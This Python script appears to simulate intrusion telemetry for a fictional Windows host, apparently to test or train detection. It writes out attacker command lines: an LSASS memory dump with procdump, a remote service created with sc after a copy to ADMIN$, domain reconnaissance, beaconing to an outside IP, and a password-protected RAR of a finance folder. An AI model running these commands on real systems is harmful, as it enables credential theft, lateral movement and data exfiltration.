"""A beacon by hands on the keyboard: rundll32 without arguments talks, LSASS is dumped with procdump, named pipes, a file
set on another machine and started there by a service, archives taken away."""
from scenery import Desktop

SETTING = {"start": "2021-09-30T23:48:51", "user": "CONTOSO\\m.dubois", "home": "C:\\Users\\m.dubois",
           "computer": "FIN-22", "os_version": (10, 0, 17763)}


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    desktop.murmur(8)
    loader = c.spawn(desktop.explorer, c.home + r"\Downloads\TeamsInstaller\update.exe")
    host = c.spawn(loader, system32 + "rundll32.exe", system32 + "rundll32.exe", company="Microsoft Corporation")
    c.exit(loader)
    for number in range(4):
        c.exchange(host, ("203.0.113.77", 443), 50700 + number, [517, 210], [1460, 180])
        c.wait(20)
    c.open(host, r"\Device\NamedPipe\msagent_4f", 0x12019F, 3, 2)
    c.open(host, r"\Device\NamedPipe\postex_a1b2", 0x12019F, 3, 2)
    for line in ("net group \"Domain Admins\" /domain", "nltest /dclist:contoso", "whoami /groups"):
        shell = c.spawn(host, system32 + "cmd.exe", system32 + "cmd.exe /C " + line)
        c.exit(c.spawn(shell, system32 + line.split()[0] + ".exe", line))
        c.exit(shell)
    tool, dump = r"C:\PerfLogs\pd64.exe", r"C:\PerfLogs\out.dmp"
    c.drop(host, tool, 414000)
    shell = c.spawn(host, system32 + "cmd.exe", system32 + "cmd.exe /C %s -accepteula -ma lsass.exe %s" % (tool, dump))
    dumper = c.spawn(shell, tool, "%s  -accepteula -ma lsass.exe %s" % (tool, dump))
    c.drop(dumper, dump, 48_000_000, chunk=8_000_000)
    c.exit(dumper)
    c.exit(shell)
    c.drop(host, r"\\10.0.2.40\ADMIN$\7f31ab2.exe", 289280)
    c.net(host, "Connect", ("10.0.2.40", 445), 50720)
    shell = c.spawn(host, system32 + "cmd.exe", system32 + r"cmd.exe /C sc \\10.0.2.40 create upd binPath= "
                    r"C:\Windows\7f31ab2.exe")
    c.exit(c.spawn(shell, system32 + "sc.exe", r"sc  \\10.0.2.40 create upd binPath= C:\Windows\7f31ab2.exe"))
    c.exit(shell)
    rar = c.spawn(host, r"C:\ProgramData\rar.exe", r"C:\ProgramData\rar.exe a -hpS3 C:\ProgramData\1.rar D:\Finance")
    c.drop(rar, r"C:\ProgramData\1.rar", 2_000_000)
    c.exit(rar)
    desktop.murmur(5)
